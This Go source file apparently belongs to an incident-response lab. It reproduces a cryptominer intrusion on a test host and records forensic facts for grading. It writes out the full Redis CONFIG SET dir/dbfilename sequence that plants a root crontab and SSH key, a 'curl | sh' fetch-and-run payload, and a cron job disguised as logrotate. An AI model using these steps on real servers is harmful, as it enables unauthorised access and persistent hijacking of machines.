package lab

import (
	"context"
	"encoding/json"
	"fmt"
	"path"
	"strconv"
	"strings"
	"time"
)

// What the intruder leaves; the masked parts of the write-up are the lab's own address and a made-up key.
const (
	schedule  = "*/5 19-23,0-7 * * *"
	payload   = "curl -fsSL " + StubURL + " | sh"
	minerPath = "/var/tmp/minerd"
	keysFile  = "/root/.ssh/authorized_keys"
	cronKey   = "backup1" // names under which the payloads lie in Redis
	sshKey    = "backup2"
)

// seed is the incident, literally.
func seed(ctx context.Context, h *Host) error {
	if err := quiet(ctx, h); err != nil {
		return err
	}
	h.Facts.Expect = Expect{Verdict: "mining", Exposed: exposed()}
	if err := h.dusk(ctx); err != nil {
		return err
	}
	if err := h.throughRedis(ctx); err != nil {
		return err
	}
	if h.Config.Cron == Debian {
		if err := h.throughSSH(ctx); err != nil {
			return err
		}
	}
	if err := h.findJob(ctx); err != nil {
		return err
	}
	return h.firstTick(ctx)
}

// dusk waits for 18:59 in the host. On a machine so slow that it is over already, the zone is moved.
func (h *Host) dusk(ctx context.Context) error {
	local := func() time.Time { return time.Now().In(time.FixedZone("", h.Facts.Zone*60)) }
	minutes := func(t time.Time) int { return t.Hour()*60 + t.Minute() }
	if now := local(); minutes(now) > beforeDusk || (minutes(now) == beforeDusk && now.Second() > lastSecond) {
		back := minutes(now.Add(60*time.Second-lastSecond*time.Second)) - beforeDusk
		h.Facts.Zone -= back
		h.step("this machine is slow: the host's clock is put back by %d minutes", back)
		if err := h.put(ctx, strings.NewReader(string(tzif(h.Facts.Zone))), "/etc/localtime", 0o644); err != nil {
			return err
		}
		unit, _ := h.Config.Cron.unit()
		if _, err := h.sh(ctx, "systemctl restart rsyslog "+unit); err != nil {
			return err
		}
	}
	if wait := 60 - local().Second(); minutes(local()) < beforeDusk {
		h.step("wait %d s for 18:59 in the host", wait)
	}
	return until(ctx, 2*time.Minute, "18:59", func() error {
		if now := local(); minutes(now) < beforeDusk {
			return fmt.Errorf("it is %s", now.Format(time.TimeOnly))
		}
		return nil
	})
}

// throughRedis writes root's crontab and keys with nothing but SET, CONFIG SET and SAVE.
func (h *Host) throughRedis(ctx context.Context) error {
	spool := h.Config.Cron.Spool()
	h.step("the intruder (%s) writes %s/root and %s through Redis", IntruderV4, spool, keysFile)
	owner, err := h.must(ctx, h.World, "", "cat", "/root/.ssh/owner.pub")
	if err != nil {
		return err
	}
	own, err := h.must(ctx, h.World, "", "cat", "/root/.ssh/intruder.pub")
	if err != nil {
		return err
	}
	replies, err := h.intrude(ctx, [][]string{
		{"INFO", "server"},
		// Two keys begin alike: compressed, the second would not be a line of the file any more. Real worms do this too.
		{"CONFIG", "SET", "rdbcompression", "no"},
		{"SET", cronKey, "\n\n" + schedule + " " + payload + "\n\n"},
		{"CONFIG", "SET", "dir", spool},
		{"CONFIG", "SET", "dbfilename", "root"},
		{"SAVE"}, {"LASTSAVE"},
		{"SET", sshKey, "\n\n" + owner + own + "\n\n"},
		{"CONFIG", "SET", "dir", path.Dir(keysFile)},
		{"CONFIG", "SET", "dbfilename", path.Base(keysFile)},
		{"SAVE"}, {"LASTSAVE"},
		// Where Redis will save again when it is stopped: a cleaned crontab comes back.
		{"CONFIG", "SET", "dir", spool},
		{"CONFIG", "SET", "dbfilename", "root"},
	})
	if err != nil {
		return fmt.Errorf("intrude through Redis: %w", err)
	}
	saved := func(reply string) time.Time {
		n, _ := strconv.ParseInt(reply, 10, 64)
		return time.Unix(n, 0).UTC()
	}
	f := &h.Facts.Intruder
	f.From, f.RedisKeys = IntruderV4, []string{cronKey, sshKey}
	f.CronFile, f.CronSaved = path.Join(spool, "root"), saved(replies[6])
	f.KeysFile, f.KeysSaved = keysFile, saved(replies[11])
	f.RedisDirNow, f.RedisFileNow = spool, "root"
	return nil
}

// intrude sends commands to the host's Redis from the intruder's address and returns the replies.
func (h *Host) intrude(ctx context.Context, commands [][]string) ([]string, error) {
	raw, err := json.Marshal(commands)
	if err != nil {
		return nil, err
	}
	out, err := h.must(ctx, h.World, string(raw), "/opt/lab/world", "redis", "-from", IntruderV4, "-to", HostV4+":6380")
	if err != nil {
		return nil, err
	}
	var replies []string
	for line := range strings.Lines(out) {
		reply, err := strconv.Unquote(strings.TrimSpace(line))
		if err != nil {
			return nil, fmt.Errorf("reply %q: %w", line, err)
		}
		replies = append(replies, reply)
	}
	if len(replies) != len(commands) {
		return nil, fmt.Errorf("%d replies to %d commands", len(replies), len(commands))
	}
	return replies, nil
}

// throughSSH uses the planted key: Debian's cron does not run what Redis wrote, so the job goes where it does.
func (h *Host) throughSSH(ctx context.Context) error {
	h.step("cron does not run a table of Redis's: the intruder logs in with the planted key and adds a job to /etc/cron.d")
	argv := sshArgs(IntruderV4, "intruder", "root@"+HostV4, "cat > "+droppedJob)
	if _, err := h.must(ctx, h.World, schedule+" root "+payload+"\n", argv...); err != nil {
		return fmt.Errorf("log in with the planted key: %w", err)
	}
	h.Facts.Intruder.LoggedIn = true
	h.Facts.Intruder.JobFile = droppedJob
	return nil
}

// droppedJob is named like a neighbour of logrotate's.
const droppedJob = "/etc/cron.d/logrotated"

// findJob looks up where the job stands.
func (h *Host) findJob(ctx context.Context) error {
	f := &h.Facts.Intruder
	if f.JobFile == "" {
		f.JobFile = f.CronFile
	}
	text, err := h.must(ctx, h.Inside, "", "cat", f.JobFile)
	if err != nil {
		return err
	}
	for i, line := range strings.Split(text, "\n") {
		if strings.HasPrefix(line, schedule) {
			f.Job, f.JobLine = line, i+1
			return nil
		}
	}
	return fmt.Errorf("%s does not hold the job as a line of its own: %q", f.JobFile, text)
}

// firstTick waits for cron to start the stand-in, and notes what cron said about Redis's table.
func (h *Host) firstTick(ctx context.Context) error {
	h.step("wait for cron's first tick, at 19:00 in the host")
	var pid string
	// On a machine that misses 19:00 the next tick is at 19:05.
	if err := until(ctx, 7*time.Minute, "cron to start "+minerPath, func() error {
		r, err := h.Run(ctx, "pgrep", "-x", path.Base(minerPath))
		if err != nil {
			return err
		}
		if pid = strings.TrimSpace(r.Stdout); pid == "" || strings.Contains(pid, "\n") {
			return fmt.Errorf("pgrep finds %q", pid)
		}
		return nil
	}); err != nil {
		return err
	}
	out, err := h.sh(ctx, fmt.Sprintf("date +%%s -d \"$(ps -o lstart= -p %s)\"; sha256sum < %s; grep -c ^processor /proc/cpuinfo", pid, minerPath))
	if err != nil {
		return err
	}
	words := strings.Fields(out)
	if len(words) != 4 {
		return fmt.Errorf("the stand-in's facts: %q", out)
	}
	m := &h.Facts.Miner
	m.PID, _ = strconv.Atoi(pid)
	started, _ := strconv.ParseInt(words[0], 10, 64)
	m.Started, m.Exe, m.SHA256, m.Threads = time.Unix(started, 0).UTC(), minerPath, words[1], h.Config.Threads
	if m.Threads == 0 {
		m.Threads, _ = strconv.Atoi(words[3])
	}
	if err := h.cronSays(ctx); err != nil {
		return err
	}
	h.step("the stand-in runs as process %d; cron says: %s", m.PID, h.Facts.Intruder.CronLog)
	return nil
}

// cronSays takes from the daemon's log what it makes of the file that Redis wrote.
func (h *Host) cronSays(ctx context.Context) error {
	f := &h.Facts.Intruder
	_, log := h.Config.Cron.unit()
	return until(ctx, 90*time.Second, "cron's word on "+f.CronFile, func() error {
		out, err := h.sh(ctx, "grep -a -e INSECURE -e 'root pid' -e '(root) CMD' -e ERROR -e 'user root' "+log+" || true")
		if err != nil {
			return err
		}
		for line := range strings.Lines(out) {
			line = strings.TrimSpace(line)
			switch {
			case h.Config.Cron == Debian && strings.Contains(line, "crontabs/root"):
				f.CronLog, f.CronRuns = line, false
				return nil
			case h.Config.Cron != Debian && strings.Contains(line, payload):
				f.CronLog, f.CronRuns = line, true
				return nil
			}
		}
		return fmt.Errorf("%s has %q", log, out)
	})
}
